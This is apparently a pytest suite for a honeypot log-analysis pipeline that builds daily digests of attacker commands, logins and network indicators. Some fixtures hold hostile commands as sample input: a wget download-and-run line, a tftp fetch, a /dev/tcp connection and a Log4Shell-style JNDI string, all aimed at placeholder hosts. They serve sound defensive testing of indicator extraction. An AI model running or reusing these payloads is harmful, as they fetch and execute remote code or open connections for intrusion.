"""The digest says what the window's rows say, the same each time, bounded, and compares with the 7 days before."""

from datetime import timedelta

from sqlalchemy import Engine, select, update

from rustbucket_pipeline.analysis.contents import Digest
from rustbucket_pipeline.analysis.digest import TOP, build_digest, digest_of
from rustbucket_pipeline.storage.analysis_tables import indicators, window_digests
from rustbucket_pipeline.storage.builds import build_of
from rustbucket_pipeline.storage.tables import log_events, rustbuckets
from rustbucket_pipeline_tests.analysis.seeding import (
    NOW,
    WINDOW,
    command,
    event,
    fleet,
    heard_until,
    login,
    request,
    tell,
)

YESTERDAY = WINDOW.start - timedelta(days=1)


def digest(engine: Engine) -> Digest:
    with engine.begin() as connection:
        return digest_of(connection, WINDOW)


def test_a_window_without_rows_has_a_digest(database: Engine) -> None:
    outcome = build_digest(database, WINDOW, NOW, None)
    assert (outcome.events, outcome.indicators) == (0, 0)
    assert outcome.completeness == "complete: unknown; no rustbucket was active in this window"


def test_building_twice_gives_the_same_bytes(database: Engine) -> None:
    fleet(database, "BKT1")
    tell(database, [command("uname -a"), login("root", "x", src_ip="203.0.113.5"), request("/.env", 5)])
    first = build_digest(database, WINDOW, NOW, "run 1")
    second = build_digest(database, WINDOW, NOW + timedelta(hours=1), "run 2")
    assert first.changed
    assert not second.changed
    assert first.sha256 == second.sha256
    with database.connect() as connection:
        build = build_of(connection, "window_digest", WINDOW)
    assert build is not None
    assert build.output_version == first.sha256


def test_each_action_counts_once_however_often_it_is_told(database: Engine) -> None:
    told = [command("id"), command("id", 1, counted=False), event("response", 2, command="id", counted=False)]
    tell(database, told)
    (row,) = digest(database).commands.rows
    assert (row.value, row.events) == ("id", 1)


def test_new_means_not_seen_in_the_seven_days_before(database: Engine) -> None:
    tell(
        database,
        [
            command("uname", YESTERDAY),
            command("uname"),
            command("nproc", WINDOW.start - timedelta(days=7, seconds=1)),
            command("nproc", 1),
            command("free -m", WINDOW.end),
        ],
    )
    newness = {row.value: row.is_new for row in digest(database).commands.rows}
    assert newness == {"uname": False, "nproc": True}


def test_a_credential_is_name_and_password_as_typed(database: Engine) -> None:
    tell(database, [login("Root", " p w "), login("Root", " p w ", 1, rustbucket_id="BKT2"), login("", "", 2)])
    rows = {(row.value, row.second): (row.events, row.rustbuckets) for row in digest(database).credentials.rows}
    assert rows == {("Root", " p w "): (2, 2), ("", ""): (1, 1)}


def test_lists_are_bounded_and_say_what_they_leave_out(database: Engine) -> None:
    tell(database, [command(f"run {number}", number % 60) for number in range(TOP * 3)])
    commands = digest(database).commands
    assert len(commands.rows) == TOP
    assert (commands.hidden_values, commands.hidden_new, commands.hidden_events) == (TOP * 2, TOP * 2, TOP * 2)


def test_a_flood_of_known_commands_hides_no_new_one(database: Engine) -> None:
    known = [f"known {number}" for number in range(TOP + 5)]
    flood = [command(text, at) for text in known for at in (YESTERDAY, 1, 2)]
    tell(database, [*flood, command("wget http://203.0.113.9/x", 3)])
    assert "wget http://203.0.113.9/x" in {row.value for row in digest(database).commands.rows if row.is_new}


def test_long_values_are_cut_and_keep_their_length(database: Engine) -> None:
    tell(database, [command("x" * 5000)])
    (row,) = digest(database).commands.rows
    assert (len(row.value), row.length) == (300, 5000)


def test_hosts_and_urls_named_in_text_are_indicators_apart_from_those_who_connected(database: Engine) -> None:
    tell(
        database,
        [
            command("cd /tmp; wget http://evil.example.org:8080/a.sh; sh a.sh"),
            command("tftp -g -r x 198.51.100.7", 1),
            command("exec 3<>/dev/tcp/192.0.2.44/80; cat v1.2.3.4.5", 2),
            request("/?x=${jndi:ldap://203.0.113.66:1389/a}", 3, src_ip="203.0.113.5"),
        ],
    )
    found = {(row.type, row.value) for row in digest(database).indicators.rows}
    assert found == {
        ("ip", "203.0.113.5"),
        ("url", "http://evil.example.org:8080/a.sh"),
        ("url", "ldap://203.0.113.66:1389/a"),
        ("host", "evil.example.org"),
        ("host", "198.51.100.7"),
        ("host", "192.0.2.44"),
        ("host", "203.0.113.66"),
    }


def test_the_address_in_a_forged_line_is_no_indicator(database: Engine) -> None:
    tell(database, [event("connection", src_ip="8.8.8.8", trust=0.4), event("forgery", 1, trust=0.2)])
    shown = digest(database)
    assert shown.indicators.rows == ()
    assert shown.sources.rows == ()
    assert shown.totals.low_trust == 2


def test_all_indicators_are_kept_with_their_rows(database: Engine) -> None:
    ids = tell(database, [event("connection", number, src_ip=f"203.0.113.{number}") for number in range(1, 61)])
    tell(database, [event("connection", YESTERDAY, src_ip="203.0.113.1")])
    outcome = build_digest(database, WINDOW, NOW, None)
    assert (outcome.indicators, outcome.new_indicators) == (60, 59)
    with database.connect() as connection:
        rows = connection.execute(select(indicators).order_by(indicators.c.first_seen)).all()
    assert [row.event_ids[0] for row in rows] == ids
    assert [row.indicator_id for row in rows[:2]] == ["I60", "I1"]


def test_a_changed_baseline_alone_makes_nothing_stale(database: Engine) -> None:
    tell(database, [event("operational")])
    first = build_digest(database, WINDOW, NOW, None)
    with database.connect() as connection:
        before = build_of(connection, "window_digest", WINDOW)
    tell(database, [event("operational", YESTERDAY)])
    second = build_digest(database, WINDOW, NOW, None)
    with database.connect() as connection:
        after = build_of(connection, "window_digest", WINDOW)
    assert before is not None
    assert after is not None
    assert before.inputs_version == after.inputs_version
    assert first.sha256 == second.sha256
    assert first.baseline_sha256 != second.baseline_sha256


def test_far_from_the_usual_is_told_once_there_is_a_day_to_compare_with(database: Engine) -> None:
    tell(database, [command("id", WINDOW.start - timedelta(hours=4 * back)) for back in range(1, 8)])
    tell(database, [command("id", second) for second in range(50)])
    told = {change.what: (change.events, change.usual) for change in digest(database).baseline.changes}
    assert told["type command"] == (50, 1.0)
    assert told["protocol ssh"] == (50, 1.0)


def test_completeness_names_whose_records_dont_reach_the_end(database: Engine) -> None:
    fleet(database, "BKT1", "BKT2", "BKT3", "BKT4")
    heard_until(database, "BKT1", WINDOW.end + timedelta(minutes=1))
    heard_until(database, "BKT2", WINDOW.start + timedelta(hours=3))
    heard_until(database, "BKT3", WINDOW.end)
    tell(database, [event("connection"), event("connection", rustbucket_id="BKT2")])
    outcome = build_digest(database, WINDOW, NOW, None)
    assert outcome.completeness == "complete: 2 of 4 rustbuckets; missing BKT2 since 07:00, BKT4 (nothing ever came)"
    shown = digest(database).completeness
    assert (shown.quiet, shown.silent) == (("BKT3",), ("BKT4",))


def test_a_rustbucket_approved_later_or_retired_before_isnt_expected(database: Engine) -> None:
    fleet(database, "BKT1", "BKT2", "BKT3")
    with database.begin() as connection:
        later = update(rustbuckets).where(rustbuckets.c.id == "BKT2").values(approved_at=WINDOW.end)
        connection.execute(later)
        gone = update(rustbuckets).where(rustbuckets.c.id == "BKT3")
        connection.execute(gone.values(status="inactive", retired_at=WINDOW.start))
    assert digest(database).completeness.expected == 1


def test_rebuilding_after_rows_changed_replaces_digest_and_indicators(database: Engine) -> None:
    tell(database, [event("connection", src_ip="203.0.113.1")])
    build_digest(database, WINDOW, NOW, None)
    with database.begin() as connection:
        connection.execute(log_events.delete())
    outcome = build_digest(database, WINDOW, NOW, None)
    assert outcome.changed
    with database.connect() as connection:
        assert connection.execute(select(indicators)).all() == []
        assert len(connection.execute(select(window_digests)).all()) == 1
